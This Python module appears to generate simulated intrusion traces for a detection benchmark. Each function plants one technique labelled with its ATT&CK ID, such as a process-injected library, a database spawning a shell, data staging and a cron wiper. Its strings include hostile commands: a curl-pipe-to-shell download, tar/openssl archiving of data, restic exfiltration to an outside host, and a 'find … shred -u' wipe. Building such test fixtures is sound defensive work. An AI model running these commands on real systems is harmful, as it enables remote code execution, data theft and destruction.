"""Attacks that run now: through the application, in its memory, through containers; theft and ransom (TA0002, TA0010, TA0040)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import scene


def injected_library(host: Host) -> None:
    """T1055.008: a library put into sshd by ptrace, its file deleted; the mapping alone is left."""
    scene.load(host, scene.named(host, "sshd")[0]["pid"], "/usr/lib/locale/libnsl-2.so (deleted)")


def hollowed(host: Host) -> None:
    """T1055.012, T1620: a process started as the application's child whose program is a memory file."""
    row = scene.work(host)
    scene.spawn(
        host,
        "/memfd:worker (deleted)",
        row["cmdline"],
        name=row["name"],
        uid=row["uid"],
        parent=row["pid"],
        on_disk="0",
    )


def java_agent(host: Host) -> None:
    """T1574: an agent in the virtual machine; on other hosts a file that Node, Perl or the shell loads first."""
    row = scene.work(host)
    if row["name"] == "java":
        row["cmdline"] = row["cmdline"].replace(" -X", " -javaagent:/usr/lib/jvm/lib/jfr-ext.jar -X", 1)
        scene.put(host, "/usr/lib/jvm/lib/jfr-ext.jar")
    else:
        scene.variable(host, row["pid"], NODE_OPTIONS="--require /usr/lib/locale/.init.js", PERL5OPT="-Mlocal::init")  # fmt: skip


def database_command(host: Host) -> None:
    """T1059.004: COPY … FROM PROGRAM, or the like elsewhere: a shell and a download below the service, for seconds."""
    row = scene.work(host)
    sh = scene.spawn(host, scene.shell(host), "sh -c curl -s http://203.0.113.9/pg.sh|sh", name="sh", uid=row["uid"], parent=row["pid"], age_s=4)  # fmt: skip
    pid = scene.spawn(host, "/usr/bin/curl", "curl -s http://203.0.113.9/pg.sh", uid=row["uid"], parent=sh, age_s=4)  # fmt: skip
    scene.connect(host, pid, "203.0.113.9", 80)


def interpreter_stager(host: Host) -> None:
    """T1059: Perl reads the next stage from its standard input and keeps a connection."""
    row = scene.work(host)
    pid = scene.spawn(host, "/usr/bin/perl", "perl -", uid=row["uid"], parent=row["pid"])
    scene.connect(host, pid, "198.51.100.230", 53)


def socket_in_container(host: Host) -> None:
    """T1611: a plain container that holds Docker's socket: as good as root on the host."""
    scene.container(
        host, "watcher-1", "docker.example/containrrr/watchtower:1.7.1", "/watchtower --interval 300",
        mounts=(("/var/run/docker.sock", "/var/run/docker.sock"),),
    )  # fmt: skip


def network_scan(host: Host) -> None:
    """T1046: masscan through the private network with a raw socket."""
    pid = scene.spawn(host, "/root/masscan", "/root/masscan 10.20.0.0/16 -p22,2375,6379 --rate 2000", cwd="/root")  # fmt: skip
    scene.raw_socket(host, pid)


def staging(host: Host) -> None:
    """T1074.001, T1560: the data packed and encrypted in parts under a hidden folder; not yet sent."""
    row = scene.work(host)
    sh = scene.spawn(host, "/usr/bin/bash", "bash -c tar cz /var/lib/data | openssl enc -aes-256-ctr -k x | split -b 50M - /var/tmp/.fontcache/p", uid=row["uid"])  # fmt: skip
    scene.spawn(host, "/usr/bin/openssl", "openssl enc -aes-256-ctr -k x", uid=row["uid"], parent=sh)
    for part in ("paa", "pab", "pac", "pad", "pae"):
        scene.put(host, f"/var/tmp/.fontcache/{part}", mode="0600", uid=row["uid"], age_s=300)


def sent_by_restic(host: Host) -> None:
    """T1567.002: a second backup, by a tool of the intruder, started from root's schedule."""
    scene.cron(host, scene.spool(host, "root"), "35 3 * * *", "/usr/local/sbin/restic -r rest:https://198.51.100.7:8000/r backup /srv /var/lib -q")  # fmt: skip
    scene.put(host, "/usr/local/sbin/restic", mode="0755")


def wiper_waits(host: Host) -> None:
    """T1485, T1053.003: a job for one night of the year deletes what the host holds."""
    scene.cron(host, "/etc/cron.d/sysstat-rotate", "30 2 24 12 *", "root /usr/bin/find /var/lib /srv -type f -exec shred -u {} +")  # fmt: skip


ATTACKS = (
    injected_library,
    hollowed,
    java_agent,
    database_command,
    interpreter_stager,
    socket_in_container,
    network_scan,
    staging,
    sent_by_restic,
    wiper_waits,
)
